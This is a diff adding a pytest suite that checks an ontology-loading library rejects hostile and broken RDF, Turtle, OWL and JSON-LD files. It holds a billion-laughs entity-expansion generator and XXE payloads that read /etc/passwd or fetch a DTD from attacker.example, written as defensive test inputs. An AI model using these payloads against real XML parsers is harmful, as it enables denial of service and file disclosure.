@@ -1,0 +1,168 @@
+"""Hostile and broken ontology files: refused quickly, with the file (and line) named."""
+
+from __future__ import annotations
+
+import resource
+import time
+
+import pytest
+
+from kgenhance.cli import main
+from kgenhance.errors import KGEnhanceError, OntologyError
+from kgenhance.graph import load_graph
+from kgenhance.link import EntityLinker
+
+RDF_HEAD = (
+    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
+    'xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">\n'
+)
+TTL_HEAD = "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
+
+
+def billion_laughs(levels: int = 9) -> str:
+    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels + 1)]
+    return (
+        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + "\n".join(ents) + "\n]>\n" + RDF_HEAD
+        + f'<rdf:Description rdf:about="http://e.org/a"><rdfs:label>&lol{levels};</rdfs:label></rdf:Description>\n'
+        "</rdf:RDF>\n"
+    )
+
+
+def test_billion_laughs_refused_fast_and_small(tmp_path):
+    path = tmp_path / "bomb.rdf"
+    path.write_text(billion_laughs())
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    t0 = time.perf_counter()
+    with pytest.raises(OntologyError, match="entity expansion too large") as err:
+        load_graph(path, cache=False)
+    assert time.perf_counter() - t0 < 1.0
+    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    assert grown_mb < 100
+    assert str(path) in str(err.value)
+
+
+def test_internal_entities_still_work(tmp_path):
+    # Protégé and FIBO declare namespace entities; those must keep loading
+    path = tmp_path / "ok.rdf"
+    path.write_text(
+        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [<!ENTITY ex "http://e.org/">]>\n' + RDF_HEAD
+        + '<rdf:Description rdf:about="&ex;a"><rdfs:label>alpha</rdfs:label></rdf:Description>\n</rdf:RDF>\n'
+    )
+    assert load_graph(path, cache=False).entity("http://e.org/a").label == "alpha"
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>',
+        '<!DOCTYPE rdf:RDF [<!ENTITY x PUBLIC "-//x//EN" "http://attacker.example/x">]>',
+    ],
+)
+def test_external_entities_never_resolved(tmp_path, doctype):
+    path = tmp_path / "xxe.rdf"
+    path.write_text(
+        f'<?xml version="1.0"?>\n{doctype}\n' + RDF_HEAD
+        + '<rdf:Description rdf:about="http://e.org/a"><rdfs:label>a</rdfs:label></rdf:Description>\n</rdf:RDF>\n'
+    )
+    with pytest.raises(OntologyError, match="external XML entity|unsafe XML"):
+        load_graph(path, cache=False)
+
+
+def test_malformed_xml_names_file_and_line(tmp_path):
+    path = tmp_path / "broken.owl"
+    path.write_text('<?xml version="1.0"?>\n' + RDF_HEAD + "<rdf:Description rdf:about='http://e.org/a'>\n<oops>\n</rdf:RDF>\n")
+    with pytest.raises(OntologyError) as err:
+        load_graph(path, cache=False)
+    assert str(err.value).startswith(f"{path}:")
+    assert err.value.line is not None
+
+
+@pytest.mark.parametrize(
+    "name, content",
+    [
+        ("truncated.ttl", TTL_HEAD + '<http://e.org/a> rdfs:label "unterminated'),
+        ("binary.ttl", bytes(range(256)) * 4),
+        ("binary.owl", b"\x89PNG\r\n\x1a\n" + bytes(200)),
+        ("zero.owl", b""),
+        ("broken.jsonld", '{"@id": "http://e.org/a", '),
+    ],
+)
+def test_broken_files_are_one_clear_error(tmp_path, name, content):
+    path = tmp_path / name
+    path.write_bytes(content if isinstance(content, bytes) else content.encode())
+    with pytest.raises(OntologyError) as err:
+        load_graph(path, cache=False)
+    assert str(path) in str(err.value)
+    assert "\n" not in str(err.value)
+
+
+def test_cli_reports_hostile_file_in_one_line(tmp_path, capsys):
+    path = tmp_path / "bomb.rdf"
+    path.write_text(billion_laughs())
+    code = main(["-q", "graph", "stats", str(path), "--no-cache"])
+    _, err = capsys.readouterr()
+    assert code == 2
+    assert err.count("\n") == 1 and "entity expansion too large" in err and "Traceback" not in err
+
+
+def test_catalog_pointing_outside_the_loaded_folders(tmp_path):
+    onto, outside = tmp_path / "onto", tmp_path / "elsewhere"
+    onto.mkdir()
+    outside.mkdir()
+    (outside / "secret.ttl").write_text(TTL_HEAD + '<http://e.org/S> a owl:Class ; rdfs:label "secret" .\n')
+    (onto / "m.ttl").write_text(
+        TTL_HEAD + "<http://e.org/m> a owl:Ontology ; owl:imports <http://e.org/secret> .\n"
+        '<http://e.org/M> a owl:Class ; rdfs:label "main" .\n'
+    )
+    (onto / "catalog-v001.xml").write_text(
+        '<?xml version="1.0"?>\n<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog">\n'
+        '<uri name="http://e.org/secret" uri="../elsewhere/secret.ttl"/>\n</catalog>\n'
+    )
+    g = load_graph(onto, cache=False)
+    assert "http://e.org/S" not in g
+    assert "http://e.org/secret" in g.unresolved_imports
+    assert any("outside the loaded folders" in w for w in g.warnings)
+    allowed = load_graph(onto, cache=False, allow_outside_imports=True)
+    assert allowed.entity("http://e.org/S").label == "secret"
+    both = load_graph(onto, outside, cache=False)  # naming the other folder is consent too
+    assert "http://e.org/S" in both
+
+
+def test_subclass_cycles_terminate(tmp_path):
+    path = tmp_path / "cycle.ttl"
+    path.write_text(
+        TTL_HEAD + '<http://e.org/A> a owl:Class ; rdfs:label "a" ; rdfs:subClassOf <http://e.org/B> .\n'
+        '<http://e.org/B> a owl:Class ; rdfs:label "b" ; rdfs:subClassOf <http://e.org/C> .\n'
+        '<http://e.org/C> a owl:Class ; rdfs:label "c" ; rdfs:subClassOf <http://e.org/A> .\n'
+    )
+    g = load_graph(path, cache=False)
+    assert len(g.descendants("http://e.org/A")) == 3
+    assert [e.label for e in g.path_to_root("http://e.org/A")] == ["a", "b", "c"]
+
+
+def test_cycle_exclusion_covers_the_whole_cycle(tmp_path):
+    path = tmp_path / "cycle.ttl"
+    path.write_text(
+        TTL_HEAD + '<http://e.org/A> a owl:Class ; rdfs:label "alpha" ; rdfs:subClassOf <http://e.org/B> .\n'
+        '<http://e.org/B> a owl:Class ; rdfs:label "beta" ; rdfs:subClassOf <http://e.org/A> .\n'
+        '<http://e.org/X> a owl:Class ; rdfs:label "xray" .\n'
+    )
+    g = load_graph(path, cache=False)
+    linker = EntityLinker.from_graph(g, exclude_branches=("http://e.org/A",))
+    assert [m.label for m in linker.link("alpha beta xray")] == ["xray"]
+    with pytest.raises(KGEnhanceError, match="no linkable names"):
+        EntityLinker.from_graph(g, exclude_branches=("http://e.org/A", "http://e.org/X"))
+
+
+@pytest.mark.parametrize("name", ["texts.csv", "texts.txt", "texts.jsonl"])
+def test_invalid_utf8_in_input_files_names_the_line(tmp_path, name):
+    from kgenhance.errors import DataError
+    from kgenhance.train import read_texts
+
+    path = tmp_path / name
+    bad = {"texts.csv": b'text,label\n"fine",a\n"bad \xff",b\n', "texts.txt": b"fine\nfine\nbad \xff\n",
+           "texts.jsonl": b'{"text": "fine"}\n{"text": "fine"}\n{"text": "bad \xff"}\n'}[name]
+    path.write_bytes(bad)
+    with pytest.raises(DataError, match=rf"{name}:3: not valid UTF-8"):
+        read_texts(path)
